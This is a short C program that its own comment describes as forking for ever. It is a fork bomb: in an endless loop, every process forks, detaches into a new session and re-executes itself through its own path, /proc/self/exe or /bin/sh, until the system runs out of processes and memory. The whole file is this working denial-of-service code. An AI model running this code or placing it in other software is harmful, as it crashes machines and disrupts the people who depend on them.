// Forks for ever, each child trying to become the program again in every way it knows.
#include <sched.h>
#include <unistd.h>

int main(int, char** arguments) {
    for (;;) {
        fork();
        setsid();
        execv(arguments[0], arguments);
        execv("/proc/self/exe", arguments);
        execv("/bin/sh", arguments);
        sched_yield();
    }
}
